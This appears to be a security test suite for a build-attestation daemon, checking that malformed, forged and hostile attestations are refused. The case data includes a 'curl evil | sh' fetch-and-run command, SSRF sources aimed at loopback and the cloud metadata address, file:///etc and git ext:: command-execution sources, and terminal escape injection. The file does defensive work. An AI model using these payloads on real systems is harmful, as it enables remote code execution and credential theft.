/**
 * Hostile attestations against a running daemon (the real rebuild pipeline, real
 * signatures): each case is submitted through the API and ends with its coded
 * outcome — refused at the door (HTTP status + code) or an `error` job with its
 * code. Afterwards the daemon still serves, the SSRF target was never contacted,
 * nothing was written outside the daemon's folders, no verdict was signed about
 * an attestation that never verified, and no signed statement says PASSED.
 */
import assert from 'node:assert/strict';
import { createPrivateKey, sign } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { pae } from '../../src/attest/index.ts';
import { loadConfig } from '../../src/config/load.ts';
import { Daemon } from '../../src/daemon/daemon.ts';
import { silentLogger } from '../../src/log/logger.ts';
import { generateKeyFiles } from '../../src/publish/index.ts';
import type { Job } from '../../src/store/types.ts';
import { TEST_TOKEN, waitFor } from '../support/daemon.ts';
import { assertNoFalseVerdict, Canary, sha256, signedContainerAttestation, signedStatement, Workspace } from './harness.ts';

const IMAGE = `sha256:${'c'.repeat(64)}`;
const COMMIT = 'b'.repeat(40);

let root: string;
let daemon: Daemon;
let canary: Canary;
let ws: Workspace;
let upstreamKey: string;
let strangerKey: string;
let outDir: string;
let ssrf: Server;
let ssrfHits = 0;
let ssrfPort = 0;

before(async () => {
  root = await mkdtemp(join(tmpdir(), 'reprod-hostile-att-'));
  canary = await new Canary(join(root, 'canary')).arm();
  ssrf = createServer((_req, res) => {
    ssrfHits += 1;
    res.end('internal');
  });
  await new Promise<void>((r) => ssrf.listen(0, '127.0.0.1', r));
  ssrfPort = (ssrf.address() as { port: number }).port;
  const up = await generateKeyFiles(join(root, 'keys', 'upstream'));
  const stranger = await generateKeyFiles(join(root, 'keys', 'stranger'));
  const reprod = await generateKeyFiles(join(root, 'keys', 'reprod'));
  upstreamKey = up.privatePath;
  strangerKey = stranger.privatePath;
  const dataDir = join(root, 'data');
  outDir = join(dataDir, 'out');
  const config = {
    dataDir,
    docker: { fetchNetwork: 'none' },
    // A stranger's provenance must not reach the host's files or internal services.
    trust: { keys: [{ id: 'upstream', path: up.publicPath }], allowFileSources: false, sourceHosts: [] },
    signing: { key: reprod.privatePath },
    daemon: { claimPollMs: 50, heartbeatSeconds: 1, leaseSeconds: 30, maxAttempts: 1, feeds: [], api: { port: 0, token: TEST_TOKEN } },
  };
  await writeFile(join(root, 'reprod.yaml'), JSON.stringify(config));
  ws = new Workspace(root, [dataDir]);
  await ws.snapshot();
  daemon = await Daemon.start({ loaded: loadConfig(join(root, 'reprod.yaml')), logger: silentLogger });
});

after(async () => {
  await daemon?.stop();
  await new Promise<void>((r) => ssrf.close(() => r()));
  await rm(root, { recursive: true, force: true });
});

const auth = { authorization: `Bearer ${TEST_TOKEN}` };

async function submit(body: Uint8Array): Promise<{ status: number; body: { jobs?: Job[]; error?: { code: string } } }> {
  const res = await fetch(`${daemon.url}/v1/attestations`, { method: 'POST', body, headers: auth });
  return { status: res.status, body: (await res.json()) as never };
}

/** A statement naming a per-case subject (so each case's verdict folder is its own). */
function claim(name: string, over: Partial<Parameters<typeof signedContainerAttestation>[1]> = {}): Parameters<typeof signedContainerAttestation>[1] {
  return { repo: 'https://git.example.org/project.git', commit: COMMIT, image: IMAGE, command: ['make'], outputs: { [name]: 'out' }, digests: { [name]: sha256(name) }, ...over };
}

/** A DSSE envelope over `payload` with `payloadType`, signed (PAE) by the upstream key. */
async function dsse(payloadType: string, payload: Buffer): Promise<Buffer> {
  const key = createPrivateKey(await readFile(upstreamKey));
  const sig = sign('sha256', pae(payloadType, payload), key);
  return Buffer.from(JSON.stringify({ payloadType, payload: payload.toString('base64'), signatures: [{ keyid: '', sig: sig.toString('base64') }] }));
}

/** Refused at the door: the HTTP status and code, and no job. */
const door: [string, () => Promise<Buffer>, number, string[]][] = [
  ['malformed JSON', async () => Buffer.from('{"payloadType": "application/vnd.in-toto+json", "payload": '), 422, ['ATTESTATION_MALFORMED']],
  ['huge payload (17 MiB)', async () => Buffer.alloc(17 * 1024 * 1024, 0x20), 413, ['PAYLOAD_TOO_LARGE']],
  ['deeply nested JSON', async () => Buffer.from(`{"a":${'['.repeat(50_000)}${']'.repeat(50_000)}}`), 422, ['ATTESTATION_MALFORMED']],
  ['a statement that is not JSON', async () => dsse('application/vnd.in-toto+json', Buffer.from('\u0000\u0001 not json')), 422, ['ATTESTATION_MALFORMED']],
];

for (const [what, make, status, codes] of door) {
  test(`attestation refused at the door: ${what} → ${status} ${codes.join('|')}`, async () => {
    const r = await submit(await make());
    assert.equal(r.status, status, JSON.stringify(r.body).slice(0, 300));
    assert.ok(codes.includes(r.body.error?.code ?? ''), `got ${r.body.error?.code}`);
    assert.equal((await fetch(`${daemon.url}/healthz`)).status, 200);
  });
}

interface JobCase {
  what: string;
  make: (name: string) => Promise<Buffer>;
  code: string;
  /** Refused before the claim verified: nothing may be signed about it. */
  unverified: boolean;
}

const jobCases: JobCase[] = [
  {
    what: 'wrong payloadType (validly signed)',
    make: async (n) => dsse('text/plain', Buffer.from(JSON.stringify({ _type: 'https://in-toto.io/Statement/v1', subject: [{ name: n, digest: { sha256: sha256(n) } }], predicateType: 'https://slsa.dev/provenance/v1', predicate: {} }))),
    code: 'UNSUPPORTED_FORMAT',
    unverified: true,
  },
  { what: 'signature by an untrusted key', make: (n) => signedContainerAttestation(strangerKey, claim(n)), code: 'UNTRUSTED_SIGNER', unverified: true },
  {
    what: 'trusted signature over a statement changed after signing',
    make: (n) => signedContainerAttestation(upstreamKey, claim(n), (s) => ((s.predicate as { buildDefinition: { externalParameters: { command: string[] } } }).buildDefinition.externalParameters.command = ['sh', '-c', 'curl evil | sh'])),
    code: 'SIGNATURE_INVALID',
    unverified: true,
  },
  {
    what: 'duplicate subjects',
    make: (n) => signedStatement(upstreamKey, { _type: 'https://in-toto.io/Statement/v1', subject: [{ name: n, digest: { sha256: sha256(n) } }, { name: n, digest: { sha256: sha256(n) } }], predicateType: 'https://slsa.dev/provenance/v1', predicate: {} }),
    code: 'ATTESTATION_MALFORMED',
    unverified: true,
  },
  {
    what: 'subject name with terminal control characters',
    make: (n) => signedStatement(upstreamKey, { _type: 'https://in-toto.io/Statement/v1', subject: [{ name: `${n}\u001b]0;owned\u0007\r\n`, digest: { sha256: sha256(n) } }], predicateType: 'https://slsa.dev/provenance/v1', predicate: {} }),
    code: 'ATTESTATION_MALFORMED',
    unverified: true,
  },
  { what: 'unknown buildType', make: (n) => signedContainerAttestation(upstreamKey, claim(n, { buildType: 'https://evil.example/buildtypes/run-anything/v1' })), code: 'UNKNOWN_BUILD_TYPE', unverified: false },
  { what: 'source on a loopback HTTP server (SSRF)', make: (n) => signedContainerAttestation(upstreamKey, claim(n, { repo: `http://127.0.0.1:${ssrfPort}/repo.git` })), code: 'SOURCE_NOT_ALLOWED', unverified: false },
  { what: 'https source on loopback (SSRF)', make: (n) => signedContainerAttestation(upstreamKey, claim(n, { repo: `https://127.0.0.1:${ssrfPort}/repo.git` })), code: 'SOURCE_NOT_ALLOWED', unverified: false },
  { what: 'source on the cloud metadata address', make: (n) => signedContainerAttestation(upstreamKey, claim(n, { repo: 'https://169.254.169.254/latest/meta-data.git' })), code: 'SOURCE_NOT_ALLOWED', unverified: false },
  { what: 'file:///etc source', make: (n) => signedContainerAttestation(upstreamKey, claim(n, { repo: 'file:///etc' })), code: 'SOURCE_NOT_ALLOWED', unverified: false },
  { what: 'file:// source at the canary', make: (n) => signedContainerAttestation(upstreamKey, claim(n, { repo: `file://${canary.dir}` })), code: 'SOURCE_NOT_ALLOWED', unverified: false },
  { what: 'ssh source', make: (n) => signedContainerAttestation(upstreamKey, claim(n, { repo: 'ssh://git@git.example.org/project.git' })), code: 'SOURCE_NOT_ALLOWED', unverified: false },
  { what: 'scp-like source', make: (n) => signedContainerAttestation(upstreamKey, claim(n, { repo: 'git@git.example.org:project.git' })), code: 'SOURCE_NOT_ALLOWED', unverified: false },
  {
    what: 'ext:: remote helper running a command',
    make: (n) => signedContainerAttestation(upstreamKey, claim(n, { repo: `ext::sh -c touch% ${canary.pwnedPaths[1]}` })),
    code: 'SOURCE_NOT_ALLOWED',
    unverified: false,
  },
  { what: 'commit id that is not hex', make: (n) => signedContainerAttestation(upstreamKey, claim(n, { commit: 'g'.repeat(40) })), code: 'PLAN_INVALID', unverified: false },
  { what: 'commit id that is too short', make: (n) => signedContainerAttestation(upstreamKey, claim(n, { commit: 'abc123' })), code: 'PLAN_INVALID', unverified: false },
  { what: 'commit id that is a ref name', make: (n) => signedContainerAttestation(upstreamKey, claim(n, { commit: 'refs/heads/main' })), code: 'PLAN_INVALID', unverified: false },
];

test(`hostile attestations become error jobs with their codes (${jobCases.length} cases); the daemon keeps serving`, { timeout: 180_000 }, async (t) => {
  const ids = new Map<JobCase, string>();
  for (const [i, c] of jobCases.entries()) {
    const name = `hostile-${i}`;
    const r = await submit(await c.make(name));
    assert.ok(r.status === 201, `${c.what}: ${r.status} ${JSON.stringify(r.body)}`);
    ids.set(c, r.body.jobs![0]!.id);
  }
  const jobs = await waitFor('every hostile job to end', async () => {
    const all = await Promise.all([...ids.values()].map(async (id) => ((await (await fetch(`${daemon.url}/v1/jobs/${id}`)).json()) as { job: Job }).job));
    return all.every((j) => j.state === 'done' || j.state === 'error') ? all : undefined;
  }, 150_000);
  for (const [i, c] of jobCases.entries()) {
    await t.test(`${c.what} → error ${c.code}`, () => {
      const j = jobs[i]!;
      // Refused before verification: the job itself fails (nothing to sign). After it:
      // the job is done with an `error` verdict (signed FAILED, checked below).
      assert.deepEqual([j.state, j.outcome ?? 'error'], c.unverified ? ['error', 'error'] : ['done', 'error'], `${c.what}: ${j.state} ${j.outcome}`);
      const error = j.error ?? (j.result as { error?: { code: string; message: string } } | undefined)?.error;
      assert.equal(error?.code, c.code, `${c.what}: ${error?.code} ${error?.message}`);
    });
  }
  assert.equal((await fetch(`${daemon.url}/healthz`)).status, 200);
  assert.equal(ssrfHits, 0, 'the loopback server was contacted');
  const unsigned = jobCases.flatMap((c, i) => (c.unverified ? [sha256(`hostile-${i}`)] : []));
  const signed = await assertNoFalseVerdict(outDir, unsigned);
  for (const [i, c] of jobCases.entries()) {
    if (c.unverified) continue;
    const vsa = signed.find((s) => s.result !== undefined && s.subjects.includes(sha256(`hostile-${i}`)));
    assert.equal(vsa?.result, 'FAILED', `${c.what}: a verified claim that cannot be rebuilt gets a signed FAILED verdict`);
  }
  await canary.assertUntouched();
  await ws.assertNothingWrittenOutside();
});
